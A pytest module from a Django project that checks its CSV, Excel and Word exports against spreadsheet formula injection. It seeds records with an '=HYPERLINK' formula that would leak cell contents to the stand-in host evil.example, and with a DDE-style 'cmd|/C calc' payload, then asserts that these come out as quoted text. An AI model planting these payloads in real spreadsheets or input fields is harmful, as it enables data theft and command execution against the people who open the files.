"""Text that members and imports write reaches every export as text, never as a formula.

A member who renames their organisation to ``=HYPERLINK("http://evil.example/?leak="&F2…)``
must not plant a live link (or a DDE call) in the secretariat's spreadsheet. Every export
URL of the project is walked (the permission matrices list every URL; an export is one
that answers ``?format=csv`` with a file), with such a text in every text field.
"""

from __future__ import annotations

import csv
import importlib
import io
import re
import zipfile

import numpy as np
import pytest
from django.apps import apps
from django.conf import settings
from django.db import models
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from rygrad.activities.documents import DOCX_TYPE
from rygrad.core.exports import XLSX_TYPE, Table, table_to_csv, table_to_xlsx
from rygrad.core.models import InitiativeScoped
from rygrad.core.testing import build_world
from rygrad.measurement.permissions import installation_actor

ATTACK = '=HYPERLINK("http://evil.example/?leak="&F2&F3&F4,"{label}")'
# The exports that carry text someone typed or imported (the others hold only numbers,
# dates and the app's own labels, and are still checked for formulas).
CARRY_USER_TEXT = {"activities:list", "agenda:action_list", "alliance:overview",
                   "alliance:organisation_list", "alliance:person_list",
                   "measurement:breakdown", "measurement:changes", "measurement:wave"}
# Measurement exports broken down by school, so that school names reach them.
BY_SCHOOL = {"measurement:changes": "year_from=2018&year_to=2019&by=school",
             "measurement:breakdown": "year=2019&by=school,grade"}
NEGATIVE_NUMBER = re.compile(r"-\d+(,\d+)?")  # a number, in Danish CSV
SKIP_FIELDS = {"answers", "token", "code", "snapshot_token", "release_token"}


def _matrices():
    found = []
    for app in settings.RYGRAD_APPS:
        try:
            module = importlib.import_module(f"{app}.tests.access")
        except ModuleNotFoundError:
            continue
        setup = getattr(module, "setup", lambda world: {})
        seen = set()
        for case in module.CASES:
            if case.method == "get" and case.in_initiative and case.url_name not in seen:
                seen.add(case.url_name)
                found.append((app, setup, case))
    return found


MATRIX = _matrices()


def _poison_text_fields(initiative) -> None:
    """Every free-text field of every record in the initiative becomes a formula."""
    for model in apps.get_models():
        if not issubclass(model, InitiativeScoped) or model._meta.app_label == "measurement":
            continue
        fields = [f for f in model._meta.concrete_fields
                  if isinstance(f, (models.CharField, models.TextField)) and not f.choices
                  and not isinstance(f, (models.SlugField, models.EmailField, models.URLField))
                  and f.editable and f.name not in SKIP_FIELDS]
        for obj in model.objects.filter(initiative=initiative):
            values = {}
            for f in fields:
                text = ATTACK.format(label=f"{model.__name__} {obj.pk} {f.name}")
                values[f.name] = text[:f.max_length] if f.max_length else text
            if values:
                model.objects.filter(pk=obj.pk).update(**values)


def _poison_schools(objects) -> None:
    """The survey data of the measurement matrix again, with school names as formulas."""
    from rygrad.measurement.services import population_replace
    from rygrad.measurement.tests.factories import import_data, random_data

    inst = objects["instrument"]
    schools = (ATTACK.format(label="Egelund Skole"), ATTACK.format(label="Bakkely Skole"))
    rng = np.random.default_rng(4)
    wave = None
    for year in (2018, 2019):
        wave = import_data(inst.initiative, inst, year,
                           random_data(rng, n=80, width=5, schools=schools), replace=True).wave
    population_replace(wave=wave, rows=[(schools[0], 5, 20), (schools[1], 6, 20)],
                       by=installation_actor(wave.initiative))


def _url(world, objects, case, fmt) -> str:
    kwargs = {"slug": world.initiative.slug}
    if case.kwargs:
        kwargs.update(case.kwargs(world, objects))
    query = BY_SCHOOL.get(case.url_name, re.sub(r"&?format=\w+", "", case.query))
    return reverse(case.url_name, kwargs=kwargs) + f"?{query}&format={fmt}".replace("?&", "?")


def _is_file(response, content_type: str) -> bool:
    return response.status_code == 200 and response["Content-Type"].startswith(content_type)


def _xlsx_text_cells(content: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c for c in cells if isinstance(c.value, str)]


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for cell in row]


@pytest.fixture
def poisoned(db, settings, tmp_path):
    settings.RYGRAD_SURVEY_DIR = tmp_path / "survey"

    def build(app, setup):
        world = build_world()
        objects = setup(world)
        if app.endswith("measurement"):
            _poison_schools(objects)
        _poison_text_fields(world.initiative)
        return world, objects

    return build


@pytest.mark.parametrize(("app", "setup", "case"), MATRIX,
                         ids=[case.url_name for _a, _s, case in MATRIX])
def test_text_reaches_every_export_as_text_never_as_a_formula(app, setup, case, poisoned,
                                                               client):
    """Given formulas in every text field (names, titles, action texts, school names of
    imported survey data), when the secretariat downloads a page as CSV, Excel and (where
    offered) Word, then no cell is a formula: Excel cells are strings equal to the text,
    CSV cells start with a quote, and Word holds the text as plain runs."""
    world, objects = poisoned(app, setup)
    client.force_login(world.users["secretariat"])
    csv_response = client.get(_url(world, objects, case, "csv"))
    if not _is_file(csv_response, "text/csv"):
        assert case.url_name not in CARRY_USER_TEXT  # a page without exports
        return

    cells = _csv_cells(b"".join(csv_response.streaming_content))
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
                and not NEGATIVE_NUMBER.fullmatch(c)]
    xlsx_response = client.get(_url(world, objects, case, "xlsx"))
    assert _is_file(xlsx_response, XLSX_TYPE)
    text_cells = _xlsx_text_cells(xlsx_response.content)
    if case.url_name in CARRY_USER_TEXT:
        attacks = [c.value for c in text_cells if c.value.startswith("=HYPERLINK(")]
        assert attacks, "no text from the records reached the Excel file"
        assert all(c.data_type == "s" for c in text_cells)
        assert {"'" + value for value in attacks} <= set(cells)

    docx_response = client.get(_url(world, objects, case, "docx"))
    if _is_file(docx_response, DOCX_TYPE):
        document = Document(io.BytesIO(docx_response.content))
        texts = {cell.text for table in document.tables for row in table.rows
                 for cell in row.cells}
        assert {c.value for c in text_cells} & texts
        xml = document.element.xml
        assert "instrText" not in xml and "fldSimple" not in xml


def test_the_walk_finds_the_exports_that_carry_typed_text():
    """Given the permission matrices, when their URLs are collected, then every export
    known to carry typed text is among them (so the walk above is not vacuous)."""
    assert {case.url_name for _a, _s, case in MATRIX} >= CARRY_USER_TEXT


def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_is_text():
    """Given a negative number and the same thing typed as text, when exported, then the
    number is a number cell (and unquoted in CSV) while the text is a string."""
    table = Table(title="t", columns=["a", "b", "c"], rows=[[-1.5, "-1.5", "@SUM(A1)"]])
    sheet = load_workbook(io.BytesIO(table_to_xlsx(table))).active
    number, text, at = sheet["A2"], sheet["B2"], sheet["C2"]
    assert (number.data_type, number.value) == ("n", -1.5)
    assert (text.data_type, text.value) == ("s", "-1.5")
    assert (at.data_type, at.value) == ("s", "@SUM(A1)")
    rows = list(csv.reader(io.StringIO(table_to_csv(table, language="en"))))
    assert rows[1] == ["-1.5", "'-1.5", "'@SUM(A1)"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted_in_csv_and_a_string_in_excel(start):
    """Given text starting with a character a spreadsheet takes as a formula, when
    exported, then CSV quotes it and Excel keeps it as the same string."""
    value = f"{start}cmd|'/C calc'!A0"
    table = Table(title="t", columns=["a"], rows=[[value]])
    assert list(csv.reader(io.StringIO(table_to_csv(table, language="en"))))[1] == [
        "'" + value]
    cell = load_workbook(io.BytesIO(table_to_xlsx(table))).active["A2"]
    assert (cell.data_type, cell.value) == ("s", value)


def test_control_characters_do_not_break_an_export():
    """Given a name with control characters (which XML cannot hold), when exported to Excel
    and Word, then the file is written with the name minus those characters."""
    from rygrad.activities.documents import table_to_docx

    table = Table(title="Navne\x07", columns=["navn"], rows=[["Bold\x0b&\x01Co"]])
    assert load_workbook(io.BytesIO(table_to_xlsx(table))).active["A2"].value == "Bold&Co"
    document = Document(io.BytesIO(table_to_docx(table, description="\x00")))
    assert document.tables[0].rows[1].cells[0].text == "Bold&Co"


def test_the_cli_csv_writer_keeps_school_names_as_text(tmp_path):
    """Given a breakdown whose school name is a formula, when the measurement CLI writes its
    machine CSV, then the name is quoted while numbers, negative ones too, stay plain."""
    import pandas as pd

    from rygrad.measurement.output import write_csv

    frame = pd.DataFrame({"school": [ATTACK.format(label="Egelund Skole")], "diff": [-0.25]})
    write_csv(frame, ["school", "diff"], tmp_path / "out.csv")
    rows = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8")))
    assert rows[1] == ["'" + ATTACK.format(label="Egelund Skole"), "-0.25"]
